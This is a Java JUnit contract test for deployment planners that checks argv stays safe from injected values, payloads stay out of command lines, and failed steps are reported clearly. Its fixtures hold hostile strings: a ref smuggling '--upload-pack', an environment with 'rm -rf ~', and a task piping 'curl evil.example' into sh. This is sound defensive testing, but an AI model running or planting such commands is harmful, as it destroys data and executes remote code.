package io.github.autodeploy.testkit;

import static org.assertj.core.api.Assertions.assertThat;

import io.github.autodeploy.core.config.EnvironmentRule;
import io.github.autodeploy.core.config.Execution;
import io.github.autodeploy.core.model.Deployment;
import io.github.autodeploy.core.model.DeploymentState;
import io.github.autodeploy.core.model.EnvironmentName;
import io.github.autodeploy.core.model.GitRef;
import io.github.autodeploy.core.model.StepResult;
import io.github.autodeploy.core.plan.CommandPlan;
import io.github.autodeploy.core.plan.CommandStep;
import io.github.autodeploy.core.plan.ExecutionPlanner;
import io.github.autodeploy.core.plan.StepVerdict;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * What every {@link ExecutionPlanner} must do: claim its own kind of execution and no other, plan a
 * deployment into steps that can run, never let a deployment's values change the shape of argv nor
 * put its payload there, write nothing while planning, and judge a step that did not succeed as a
 * failure or an error whose description names the step. To check a planner, extend this class in a
 * JUnit 5 test and implement {@link #planner()} and {@link #ruleFor(Deployment)}; where the planner
 * lets deployment values into argv (placeholders in commands), have the rule use them, so that the
 * tests here have something to check. Not thread-safe (one instance per test).
 */
public abstract class ExecutionPlannerContract {
    /** Only the payload carries this, so argv holding it means the payload leaked. */
    private static final String PAYLOAD_MARK = "payload-only-7f3a9c";
    /** Each value below is hostile to a shell or a command line; its marker sits in its middle. */
    /** The worst a ref can hold once git and the robot (no shell metacharacters) have checked it. */
    private static final String HOSTILE_REF = "evil/x--upload-pack=#%0a,y";
    private static final String HOSTILE_ENVIRONMENT = "prod && rm -rf ~ 'a b' \"c\"";
    private static final String HOSTILE_TASK = "deploy; curl evil.example | sh \"$(id)\" --force";

    /** A fresh folder for each test; the plan's scratch directory is a path inside it. */
    @TempDir
    protected Path dir;

    /** The planner under test. */
    protected abstract ExecutionPlanner planner();

    /**
     * A rule this planner plans, for the deployment's repository and environment. Where the planner
     * lets deployment values into argv, the rule should use each of them ({@code ${ref}},
     * {@code ${environment}}, {@code ${task}}).
     */
    protected abstract EnvironmentRule ruleFor(Deployment deployment);

    /**
     * An execution this planner does not plan. The default is core's {@code commands}, or else a kind
     * no planner has; override it if the planner plans both.
     */
    protected Execution anotherKind() {
        return Stream.<Execution>of(new Execution.Commands(List.of(List.of("true"))),
                        new Execution.Planned("no-such-kind", Map.of()))
                .filter(e -> !planner().plans(e))
                .findFirst()
                .orElseThrow(() -> new AssertionError("the planner claims every kind of execution core knows; "
                        + "override anotherKind() with one it does not plan"));
    }

    /**
     * An exit code by which the planner's tool says the deployment itself failed (rather than the
     * tool): 1 unless overridden.
     */
    protected int failingExitCode() {
        return 1;
    }

    private CommandPlan plan(Deployment deployment) {
        return planner().plan(ruleFor(deployment), deployment, dir.resolve("scratch").toString());
    }

    private static Deployment with(Deployment d, String ref, String environment, String task, String payload) {
        return new Deployment(d.repository(), d.id(), d.sha(), GitRef.of(ref), EnvironmentName.of(environment), task,
                d.requester(), payload, d.description());
    }

    private CommandStep firstStep() {
        return plan(Values.deployment(42)).steps().get(0);
    }

    private static StepResult ended(StepResult.Outcome outcome, int exitCode, String message) {
        return new StepResult(outcome, exitCode, Duration.ofSeconds(3), message);
    }

    @Test
    void plansItsOwnKindOfExecution() {
        assertThat(planner().plans(ruleFor(Values.deployment(42)).execution())).isTrue();
    }

    @Test
    void doesNotPlanAnotherKindOfExecution() {
        assertThat(planner().plans(anotherKind())).isFalse();
    }

    @Test
    void aPlanHasStepsThatCanRun() {
        CommandPlan plan = plan(Values.deployment(42));
        assertThat(plan.steps()).isNotEmpty().allSatisfy(step -> {
            assertThat(step.name()).isNotBlank();
            assertThat(step.argv()).isNotEmpty();
            assertThat(step.argv().get(0)).as("program of step '%s'", step.name()).isNotBlank();
            assertThat(step.timeout()).isPositive();
        });
    }

    @Test
    void deploymentValuesNeverChangeTheShapeOfArgv() {
        Deployment plain = Values.deployment(42);
        Deployment hostile = with(plain, HOSTILE_REF, HOSTILE_ENVIRONMENT, HOSTILE_TASK, plain.payloadJson());
        List<CommandStep> expected = plan(plain).steps();
        List<CommandStep> actual = plan(hostile).steps();

        assertThat(actual).hasSameSizeAs(expected);
        for (int i = 0; i < actual.size(); i++) {
            List<String> argv = actual.get(i).argv();
            assertThat(argv).as("argv of step %d", i).hasSameSizeAs(expected.get(i).argv());
            assertThat(argv).as("argv of step %d: a hostile value is split across elements", i).allSatisfy(element -> {
                assertWholeOrAbsent(element, HOSTILE_REF, "--upload-pack=#");
                assertWholeOrAbsent(element, HOSTILE_ENVIRONMENT, "rm -rf ~");
                assertWholeOrAbsent(element, HOSTILE_TASK, "curl evil.example");
            });
        }
    }

    private static void assertWholeOrAbsent(String element, String value, String marker) {
        if (element.contains(marker)) {
            assertThat(element).contains(value);
        }
    }

    @Test
    void thePayloadNeverReachesArgv() {
        Deployment d = Values.deployment(42);
        Deployment withPayload = with(d, d.ref().value(), d.environment().value(), d.task(),
                "{\"note\":\"" + PAYLOAD_MARK + "\",\"args\":[\"--force\",\"$(id)\"]}");
        assertThat(plan(withPayload).steps()).allSatisfy(step ->
                assertThat(step.argv()).noneMatch(a -> a.contains(PAYLOAD_MARK)));
    }

    @Test
    void planningWritesNothingAndThePlansFilesGoInTheScratchDirectory() throws IOException {
        Path scratch = dir.resolve("scratch");
        CommandPlan plan = plan(Values.deployment(42));
        try (Stream<Path> written = Files.list(dir)) {
            assertThat(written).isEmpty();
        }
        assertThat(plan.steps()).flatMap(CommandStep::files)
                .allSatisfy(f -> assertThat(Path.of(f.path()).normalize()).startsWithRaw(scratch));
    }

    @Test
    void aStepThatExitedWithTheToolsFailingCodeIsAFailureNamingTheStep() {
        CommandStep step = firstStep();
        StepVerdict verdict = planner().judge(step,
                ended(StepResult.Outcome.FAILED, failingExitCode(), "exit code " + failingExitCode()), List.of());
        assertThat(verdict.state()).isEqualTo(DeploymentState.FAILURE);
        assertNamesTheStep(verdict, step);
    }

    @Test
    void aStepThatTimedOutIsAFailureNamingTheStep() {
        CommandStep step = firstStep();
        StepVerdict verdict = planner().judge(step, ended(StepResult.Outcome.TIMED_OUT, -1, "timed out after 30m"),
                List.of("still working"));
        assertThat(verdict.state()).isEqualTo(DeploymentState.FAILURE);
        assertNamesTheStep(verdict, step);
    }

    @Test
    void aStepThatDidNotStartIsAnErrorNamingTheStep() {
        CommandStep step = firstStep();
        StepVerdict verdict = planner().judge(step,
                ended(StepResult.Outcome.NOT_STARTED, -1, "could not start " + step.argv().get(0) + ": error=2"), List.of());
        assertThat(verdict.state()).isEqualTo(DeploymentState.ERROR);
        assertNamesTheStep(verdict, step);
    }

    @Test
    void aCancelledStepIsAnErrorNamingTheStep() {
        CommandStep step = firstStep();
        StepVerdict verdict = planner().judge(step, ended(StepResult.Outcome.CANCELLED, -1, "cancelled: by octocat"),
                List.of());
        assertThat(verdict.state()).isEqualTo(DeploymentState.ERROR);
        assertNamesTheStep(verdict, step);
    }

    @Test
    void everyExitCodeIsJudgedWhateverTheOutput() {
        CommandStep step = firstStep();
        List<String> noise = List.of("", "PLAY RECAP", "{{ not: yaml", "\u001b[31mred\u001b[0m", "x".repeat(5000));
        for (int code : new int[] {1, 2, 3, 4, 5, 99, 126, 127, 137, 250, 255}) {
            for (List<String> tail : List.of(List.<String>of(), noise)) {
                StepVerdict verdict = planner().judge(step, ended(StepResult.Outcome.FAILED, code, "exit code " + code), tail);
                assertThat(verdict.description()).as("description for exit %d", code).isNotBlank();
            }
        }
    }

    /** A person reading the status must know which step it was: its name, or its program. */
    private static void assertNamesTheStep(StepVerdict verdict, CommandStep step) {
        String program = Optional.ofNullable(Path.of(step.argv().get(0)).getFileName()).map(Path::toString)
                .orElse(step.argv().get(0));
        assertThat(verdict.description()).as("description of a verdict on step '%s'", step.name())
                .satisfiesAnyOf(d -> assertThat(d).contains(step.name()), d -> assertThat(d).contains(program));
    }
}
